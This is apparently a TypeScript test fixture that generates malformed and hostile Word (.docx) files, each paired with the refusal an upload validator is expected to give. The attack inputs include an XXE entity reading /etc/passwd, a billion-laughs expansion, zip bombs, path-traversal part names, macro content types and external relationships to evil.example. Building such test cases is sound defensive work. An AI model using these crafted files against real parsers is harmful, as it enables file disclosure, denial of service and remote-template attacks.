/** Word files that mean harm, and files that are not Word files at all. */
import { strToU8, type Zippable, zipSync } from 'fflate'

const TYPES = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

export interface Ingredients {
  readonly mainType?: string
  readonly body?: string
  /** The whole of word/document.xml, instead of a body. */
  readonly document?: Uint8Array | string
  /** `<Relationship …/>` elements of the main part. */
  readonly relations?: string
  readonly parts?: Readonly<Record<string, string | Uint8Array>>
}

/** An honest small file, or with one ingredient that is not. */
export const wordFile = (made: Ingredients = {}): Uint8Array => {
  const main = made.mainType ?? `${TYPES}.document.main+xml`
  const files: Record<string, string | Uint8Array> = {
    '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/><Override PartName="/word/styles.xml" ContentType="${TYPES}.styles+xml"/><Override PartName="/word/numbering.xml" ContentType="${TYPES}.numbering+xml"/><Override PartName="/word/comments.xml" ContentType="${TYPES}.comments+xml"/></Types>`,
    '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml':
      made.document ??
      `<w:document ${W} xmlns:r="${OFFICE}"><w:body>${made.body ?? '<w:p><w:r><w:t>Fee</w:t></w:r></w:p>'}<w:sectPr/></w:body></w:document>`,
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${made.relations ?? ''}</Relationships>`,
    ...made.parts,
  }
  return zip(files)
}

const zip = (files: Readonly<Record<string, string | Uint8Array>>): Uint8Array => {
  const entries: Zippable = {}
  for (const [name, content] of Object.entries(files))
    entries[name] = typeof content === 'string' ? strToU8(content) : content
  return zipSync(entries, { level: 9 })
}

export const relation = (kind: string, target: string, external = true): string =>
  `<Relationship Id="rId9" Type="${OFFICE}/${kind}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`

/** An OLE compound file whose directory names these streams. */
const compound = (stream: string): Uint8Array => {
  const bytes = new Uint8Array(2048)
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
  for (const [n, c] of [...stream].entries()) bytes[1024 + 2 * n] = c.charCodeAt(0)
  return bytes
}

/** The first central entry of the zip claims another size than its bytes have. */
const lyingSize = (file: Uint8Array, name: string, size: number): Uint8Array => {
  const out = file.slice()
  const view = new DataView(out.buffer)
  for (let at = 0; at + 46 < out.length; at++) {
    if (view.getUint32(at, true) !== 0x02014b50) continue
    const length = view.getUint16(at + 28, true)
    if (new TextDecoder().decode(out.subarray(at + 46, at + 46 + length)) === name) view.setUint32(at + 24, size, true)
  }
  return out
}

/** One entry written twice, which two readers may take for two different documents. */
const doubled = (): Uint8Array => {
  const file = zip({ 'word/document.xmA': '<a/>', 'word/document.xmB': '<b/>' })
  return file.map((byte, n) =>
    (byte === 0x41 || byte === 0x42) && file[n - 1] === 0x6d && file[n - 2] === 0x78 ? 0x6c : byte,
  )
}

const encrypted = (file: Uint8Array): Uint8Array => {
  const out = file.slice()
  const view = new DataView(out.buffer)
  for (let at = 0; at + 46 < out.length; at++)
    if (view.getUint32(at, true) === 0x02014b50) view.setUint16(at + 8, view.getUint16(at + 8, true) | 1, true)
  return out
}

const deep = `<w:document ${W}><w:body>${'<w:customXml>'.repeat(400)}${'</w:customXml>'.repeat(400)}</w:body></w:document>`
const laughs = `<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><w:document ${W}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>`
const fetches = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document ${W}><w:body/></w:document>`

/** Name of the attack → the file, and the refusal it must meet. */
export const hostileFiles = (): readonly (readonly [name: string, file: Uint8Array, refused: string])[] => [
  ['0 bytes', new Uint8Array(0), 'empty'],
  ['30 MB', new Uint8Array(30 * 1024 * 1024), 'too-large'],
  ['plain text under the name of a Word file', strToU8('Dear Sirs,'), 'not-word'],
  ['a PDF', strToU8('%PDF-1.7 …'), 'pdf'],
  ['a Rich Text file', strToU8('{\\rtf1 Fee}'), 'rtf'],
  ['a web page', strToU8('<!DOCTYPE html><html></html>'), 'web'],
  ['an old .doc', compound('WordDocument'), 'word-97'],
  ['a file with a password', compound('EncryptedPackage'), 'password'],
  ['zip entries that are encrypted', encrypted(wordFile()), 'password'],
  ['a zip that is no document', zip({ 'a.txt': 'hello' }), 'zip'],
  [
    'an OpenDocument file',
    zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<a/>' }),
    'opendocument',
  ],
  [
    'an Excel workbook',
    wordFile({ mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }),
    'excel',
  ],
  [
    'macros by content type',
    wordFile({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'macros',
  ],
  ['macros as a stray part', wordFile({ parts: { 'word/vbaProject.bin': 'x' } }), 'macros'],
  ['a template', wordFile({ mainType: `${TYPES}.template.main+xml` }), 'template'],
  ['cut off in the middle', wordFile().slice(0, 600), 'truncated'],
  ['a flipped byte in the text', flipped(wordFile()), 'damaged'],
  ['text that is no XML', wordFile({ document: '<w:document' }), 'damaged'],
  ['a zip bomb of one part', wordFile({ parts: { 'word/media/a.xml': new Uint8Array(60 << 20) } }), 'bomb'],
  ['a bomb of 150 parts', wordFile({ parts: manyBlanks() }), 'bomb'],
  ['a size that lies', lyingSize(wordFile(), 'word/document.xml', 10), 'damaged'],
  [
    'more than 2,000 parts',
    wordFile({ parts: Object.fromEntries(Array.from({ length: 2100 }, (_, n) => [`word/p${n}.xml`, 'x'])) }),
    'entries',
  ],
  ['a part name outside of the file', wordFile({ parts: { '../../evil.xml': '<a/>' } }), 'names'],
  ['an absolute part name', wordFile({ parts: { '/etc/evil.xml': '<a/>' } }), 'names'],
  ['the same part twice', doubled(), 'names'],
  ['entities that multiply', wordFile({ document: laughs }), 'doctype'],
  ['an entity that fetches', wordFile({ document: fetches }), 'doctype'],
  ['a DOCTYPE in a part nobody reads', wordFile({ parts: { 'customXml/item1.xml': fetches } }), 'doctype'],
  ['400 levels', wordFile({ document: deep }), 'depth'],
  ['a picture on the web', wordFile({ relations: relation('image', 'http://evil.example/p.png') }), 'external'],
  ['a picture on this disk', wordFile({ relations: relation('image', 'file:///etc/passwd') }), 'external'],
  ['a linked object', wordFile({ relations: relation('oleObject', 'http://evil.example/o.bin') }), 'external'],
  ['a frame', wordFile({ relations: relation('frame', 'http://evil.example/') }), 'external'],
  ['a subdocument', wordFile({ relations: relation('subDocument', '\\\\evil\\share\\d.docx') }), 'external'],
  [
    'a template on the web',
    wordFile({ relations: relation('attachedTemplate', 'http://evil.example/t.dotm') }),
    'external',
  ],
  [
    'an address without the word External',
    wordFile({ relations: relation('image', 'http://evil.example/', false) }),
    'external',
  ],
  ['an active control', wordFile({ relations: relation('control', 'activeX/activeX1.xml', false) }), 'active'],
]

/** Stored text with one bit changed: only the checksum can tell. */
const flipped = (file: Uint8Array): Uint8Array => {
  const out = file.slice()
  const view = new DataView(out.buffer)
  for (let at = 0; at + 46 < out.length; at++) {
    if (view.getUint32(at, true) !== 0x02014b50) continue
    const length = view.getUint16(at + 28, true)
    if (new TextDecoder().decode(out.subarray(at + 46, at + 46 + length)) !== 'word/document.xml') continue
    const local = view.getUint32(at + 42, true)
    const data = local + 30 + view.getUint16(local + 26, true) + view.getUint16(local + 28, true)
    out[data + 20]! ^= 4
  }
  return out
}

const manyBlanks = (): Record<string, Uint8Array> =>
  Object.fromEntries(Array.from({ length: 250 }, (_, n) => [`word/p${n}.xml`, new Uint8Array(1000 * 1000)]))
